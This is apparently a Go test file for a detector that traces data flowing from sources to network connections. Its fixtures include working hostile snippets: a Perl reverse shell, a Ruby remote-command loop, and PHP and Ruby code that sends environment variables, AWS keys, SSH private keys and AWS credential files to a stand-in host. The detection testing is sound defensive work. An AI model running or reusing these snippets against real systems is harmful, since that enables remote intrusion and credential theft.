package chain_test

import (
	"strings"
	"testing"

	"github.com/skillctl/skillctl/engine/flow/chain"
)

// TestSockets: what a connection is fed leaves the machine, and what it says is not run.
func TestSockets(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ language, source, want string }{
		"orders of a connection": {"ruby", "s = TCPSocket.new('a.example.com', 4444)\nwhile line = s.gets\n  s.puts `#{line}`\nend\n", "connection -> run a.example.com"},
		"orders in Perl":         {"perl", "my $s = IO::Socket::INET->new(PeerAddr => 'a.example.com:80');\nwhile (my $l = <$s>) {\n  print $s qx($l);\n}\n", "connection -> run a.example.com"},
		"a shell with a connection": {"perl", "connect(S, sockaddr_in(4444, inet_aton('a.example.com')));\nopen(STDIN, '>&S');\nexec('/bin/sh -i');\n",
			"connection -> attach a.example.com"},
		"the environment":           {"php", "<?php\n$e = getenv();\n$f = fsockopen('a.example.com', 80);\nfwrite($f, json_encode($e));\n", "environment -> send a.example.com"},
		"a variable":                {"php", "<?php\n$t = getenv('AWS_SECRET_ACCESS_KEY');\n$f = stream_socket_client('tcp://a.example.com:80');\nfputs($f, $t);\n", "variable -> send a.example.com"},
		"a key":                     {"ruby", "k = File.read(File.expand_path('~/.ssh/id_rsa'))\ns = TCPSocket.new('a.example.com', 80)\ns.write(k)\n", "key -> send a.example.com"},
		"a file that is read whole": {"perl", "open(my $f, '<', \"$ENV{HOME}/.aws/credentials\");\nmy $k = do { local $/; <$f> };\nLWP::UserAgent->new->post('https://a.example.com/p', { d => $k });\n", "login -> send a.example.com"},
		"a port that is tried":      {"ruby", "s = TCPSocket.new(ARGV[0], 80)\nputs 'open'\ns.close\n", ""},
		"a line that is shown":      {"ruby", "s = TCPSocket.new('a.example.com', 80)\nputs s.gets\n", ""},
		"a word that is sent":       {"php", "<?php\n$f = fsockopen('a.example.com', 80);\nfwrite($f, 'GET / HTTP/1.0');\n", ""},
		"a page that is read":       {"perl", "my $s = IO::Socket::INET->new('a.example.com:80');\nprint $s \"GET / HTTP/1.0\\n\\n\";\nmy @l = <$s>;\nprint @l;\n", ""},
		"a command of its own":      {"ruby", "s = TCPSocket.new('a.example.com', 80)\nputs `uptime`\n", ""},
	} {
		found := chain.Loose(chain.Text{File: "a", Source: []byte(c.source), Language: c.language})
		got := ""
		for _, one := range found.Chains {
			hosts := one.Sink.Hosts
			if len(hosts) == 0 {
				hosts = one.Source.Hosts
			}
			got = one.Source.Kind + " -> " + one.Sink.Kind + " " + strings.Join(hosts, " ")
		}
		if got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}
